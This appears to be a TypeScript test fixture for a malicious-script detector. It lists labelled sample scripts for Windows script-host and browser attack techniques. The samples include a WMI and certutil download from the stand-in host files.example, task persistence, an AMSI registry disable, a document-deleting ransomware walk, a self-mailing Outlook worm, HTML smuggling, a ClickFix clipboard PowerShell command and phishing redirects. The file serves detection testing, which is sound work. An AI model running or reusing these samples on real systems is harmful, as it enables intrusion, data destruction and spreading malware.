/** Scripts that reach programs by less usual automation objects, or that first look for an analysis. All are inert. */
import type { HostileScript } from './techniques.ts';

const CALC = "new ActiveXObject('WScript.Shell').Run('calc.exe')";
const SHEET = `<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript"><![CDATA[${CALC}]]></ms:script></s:stylesheet>`;
const compressed = 'H4sIAAAAAAACA/ONUsjMSy0q0VFIyy9SSFQoSS0uAQBLpR7nFAAAAA==';

export const AUTOMATION_SCRIPTS: readonly HostileScript[] = [
  {
    technique: 'process by the parameters of a WMI method',
    name: 'method.js',
    content: `var s = GetObject('winmgmts:root\\\\cimv2'), m = s.Get('Win32_Process').Methods_.Item('Create').InParameters.SpawnInstance_();
      m.Properties_.Item('CommandLine').Value = 'mshta http://files.example/a'; s.ExecMethod('Win32_Process', 'Create', m);`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'task that is registered by its service',
    name: 'task.js',
    content: `var s = new ActiveXObject('Schedule.Service'); s.Connect(); var t = s.NewTask(0), a = t.Actions.Create(0);
      t.Triggers.Create(9); a.Path = 'wscript'; a.Arguments = 'SMALLT~1.JS'; s.GetFolder('\\\\').RegisterTaskDefinition('Ratings', t, 6, '', '', 3);`,
    level: 'malicious',
    finds: ['behaviour-persistence', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'objects by their class ids',
    name: 'class.js',
    content: `GetObject('new:9BA05972-F6A8-11CF-A442-00A0C90A8F39').Item().Document.Application.ShellExecute('cmd.exe', '/c echo inert');`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'management console',
    name: 'console.js',
    content: `new ActiveXObject('MMC20.Application').Document.ActiveView.ExecuteShellCommand('cmd.exe', null, '/c echo inert', '7');`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'macro formula by way of Excel',
    name: 'formula.js',
    content: `new ActiveXObject('Excel.Application').ExecuteExcel4Macro('EXEC("calc.exe")');`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: '.NET program in a text',
    name: 'memory.js',
    content: `new ActiveXObject('WScript.Shell').Environment('Process')('COMPLUS_Version') = 'v4.0.30319';
      var t = 'AAEAAAD/////', e = new ActiveXObject('System.Text.ASCIIEncoding'), n = e.GetByteCount_2(t), m = new ActiveXObject('System.IO.MemoryStream');
      m.Write(new ActiveXObject('System.Security.Cryptography.FromBase64Transform').TransformFinalBlock(e.GetBytes_4(t), 0, n), 0, n / 4 * 3);
      new ActiveXObject('System.Runtime.Serialization.Formatters.Binary.BinaryFormatter').Deserialize_2(m).DynamicInvoke(null);`,
    level: 'malicious',
    finds: ['behaviour-loads-assembly'],
  },
  {
    technique: 'script in a style sheet',
    name: 'sheet.js',
    content: `var x = new ActiveXObject('Microsoft.XMLDOM'); x.loadXML(${JSON.stringify(SHEET)}); x.transformNode(x);`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'object that a script file declares',
    name: 'declared.wsf',
    content: `<job><object id="sh" progid="WScript.Shell"/><script language="JScript">sh.Run('certutil -f http://files.example/a');</script></job>`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'object that an application declares',
    name: 'declared.hta',
    content: `<html><hta:application><object id="w" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><script>w.Run('calc.exe')</script></html>`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'scriptlet',
    name: 'a.sct',
    content: `<?XML version="1.0"?><scriptlet><registration progid="P"><script language="JScript"><![CDATA[${CALC};]]></script></registration></scriptlet>`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'documents held to ransom',
    name: 'locked.js',
    content: `var f = new ActiveXObject('Scripting.FileSystemObject'); function walk(d) { for (var e = new Enumerator(d.Files); !e.atEnd(); e.moveNext()) {
      var p = e.item().Path; if (!/\\.(docx|xlsx|pdf)$/i.test(p)) continue; var t = f.CreateTextFile(p + '.locked'); t.Write('inert'); t.Close(); f.DeleteFile(p); }
      for (var s = new Enumerator(d.SubFolders); !s.atEnd(); s.moveNext()) walk(s.item()); } walk(f.GetFolder('C:\\\\'));`,
    level: 'malicious',
    finds: ['behaviour-destroys-documents'],
  },
  {
    technique: 'switches off the look at scripts, then starts itself again',
    name: 'amsi.js',
    content: `var w = new ActiveXObject('WScript.Shell'), k = 'HKCU\\\\Software\\\\Microsoft\\\\Windows Script\\\\Settings\\\\AmsiEnable';
      try { if (w.RegRead(k) != 0) throw 1 } catch (e) { w.RegWrite(k, 0, 'REG_DWORD'); w.Run('cscript ' + WScript.ScriptFullName) }`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter', 'behaviour-registry-write'],
  },
  {
    technique: 'looks for a machine that answers everything',
    name: 'answers.js',
    content: `var n = 0; try { new ActiveXObject('No.Such') } catch (e) { if ((e.number & 65535) == 429) n++ } var w = new ActiveXObject('WScript.Shell');
      try { w.NoSuchMethod() } catch (e) { n++ } if (n == 2) w.Run('calc.exe');`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'waits in thousands of short steps',
    name: 'steps.js',
    content: `for (var i = 0; i < 5000; i++) WScript.Sleep(200); ${CALC}`,
    level: 'suspicious',
    finds: ['behaviour-starts-program', 'behaviour-long-delay'],
  },
  {
    technique: 'looks for a used machine',
    name: 'used.js',
    content: `var w = new ActiveXObject('WScript.Shell'), f = new ActiveXObject('Scripting.FileSystemObject'), l = GetObject('winmgmts:').ExecQuery('SELECT * FROM Win32_Process');
      if (f.GetFolder(w.SpecialFolders('Recent')).Files.Count > 10 && l.Count > 30) w.Run('calc.exe');`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'mail to all contacts',
    name: 'worm.js',
    content: `var o = new ActiveXObject('Outlook.Application'), c = o.GetNamespace('MAPI').GetDefaultFolder(10).Items;
      for (var i = 1; i <= c.Count; i++) { var m = o.CreateItem(0); m.To = c.Item(i).Email1Address; m.Attachments.Add(WScript.ScriptFullName); m.Send() }`,
    level: 'suspicious',
    finds: ['behaviour-sends-mail'],
  },
  {
    technique: 'page: packed bytes',
    name: 'packed.html',
    content: `<script>(async () => { const b = Uint8Array.from(atob('${compressed}'), (c) => c.charCodeAt(0));
      const s = new Blob([b]).stream().pipeThrough(new DecompressionStream('gzip')); const a = document.createElement('a');
      a.href = URL.createObjectURL(new Blob([await new Response(s).arrayBuffer()])); a.download = 'z.js'; a.click() })()</script>`,
    level: 'malicious',
    finds: ['behaviour-smuggled-program'],
  },
  {
    technique: 'page: copies a command when clicked',
    name: 'human.html',
    content: `<button onclick="t()">I am human</button><script>function t() { var e = document.createElement('textarea'); e.value = 'powershell -c iwr http://files.example/a';
      document.body.appendChild(e); e.select(); document.execCommand('copy') }</script>`,
    level: 'malicious',
    finds: ['behaviour-clipboard-command'],
  },
  {
    technique: 'page: address that its source does not show',
    name: 'hidden.html',
    content: `<script>if (Intl.DateTimeFormat().resolvedOptions().timeZone) { var s = document.createElement('script'); s.src = ['aHR0cHM6', 'Ly9maWxl', 'cy5leGFtcGxlL2E='].map(atob).join(''); document.head.appendChild(s) }</script>`,
    level: 'suspicious',
    finds: ['behaviour-hidden-address'],
  },
  {
    technique: 'page: redirect that the script writes into the head',
    name: 'refresh.html',
    content: `<body><script>document.onreadystatechange = function () { var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=https://login.example/'; document.head.appendChild(m) }</script></body>`,
    level: 'suspicious',
    finds: ['behaviour-redirect'],
  },
  {
    technique: 'page: frame whose text is in its attribute',
    name: 'frame.html',
    content: `<script>var f = document.createElement('iframe'); f.setAttribute('srcdoc', "<script>parent.location = 'https://login.example/'<\\/script>"); document.body.appendChild(f)</script>`,
    level: 'suspicious',
    finds: ['behaviour-redirect'],
  },
  {
    technique: 'page: goes on after twenty thousand promises',
    name: 'promises.html',
    content: `<script>(async () => { for (let i = 0; i < 2e4; i++) await i; location = 'https://login.example/' })()</script>`,
    level: 'suspicious',
    finds: ['behaviour-redirect'],
  },
  {
    technique: 'command in an XML text',
    name: 'node.js',
    content: `var x = new ActiveXObject('Msxml2.DOMDocument.6.0'); x.loadXML('<a><b>63616c632e657865</b></a>'); var t = x.selectSingleNode('//b').text, o = '';
      for (var i = 0; i < t.length; i += 2) o += String.fromCharCode(parseInt(t.substr(i, 2), 16)); if (o === 'calc.exe') new ActiveXObject('WScript.Shell').Run(o);`,
    level: 'suspicious',
    finds: ['behaviour-starts-program'],
  },
  {
    technique: 'page: link put beside another element',
    name: 'beside.html',
    content: `<script>var l = document.createElement('a'); l.href = 'data:application/octet-stream,MZ inert'; l.download = 'a.pif';
      document.body.insertAdjacentElement('beforeend', l); l.click()</script>`,
    level: 'malicious',
    finds: ['behaviour-smuggled-program'],
  },
];
